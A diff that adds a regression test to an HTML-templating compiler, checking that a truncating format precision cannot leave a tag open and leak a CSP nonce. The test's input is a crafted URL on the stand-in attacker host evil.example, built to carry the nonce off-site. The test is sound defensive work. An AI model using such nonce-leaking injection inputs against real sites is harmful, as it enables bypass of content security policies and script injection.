@@ -589,3 +589,23 @@ def test_nested_items_in_a_tstring_are_followed_through() -> None:
         kept = sent(htmlformat(Template("<div>", _Interpolation([[module.app_js()]]), "</div>")))
     assert NONCE not in leaked
     assert kept.count(NONCE) == 1
+
+
+def test_a_precision_that_cuts_a_partial_leaves_text_not_an_open_url() -> None:
+    """Fifth review, finding 6: a precision cut a template's output open, and the next
+    literal's nonce went to the URL the request padded; what is left is text now."""
+    source = textwrap.dedent(
+        """\
+        def frag [html] (u):
+            f"<img src='{u}'>"
+
+        def f [html] (u):
+            f"<p>{frag(u):.32}</p>"
+            '<script src="/app.js"></script>'
+        """
+    )
+    module = compiled(source, "csp_carrier_precision")
+    with nonce_scope(NONCE):
+        out = sent(module.f("https://evil.example/?" + "x" * 40))
+    assert out.startswith("<p>&lt;img src=&#x27;https://evil.example/?")
+    assert [(tag, nonce) for tag, nonce in nonces(out)] == [("p", None), ("script", NONCE)]
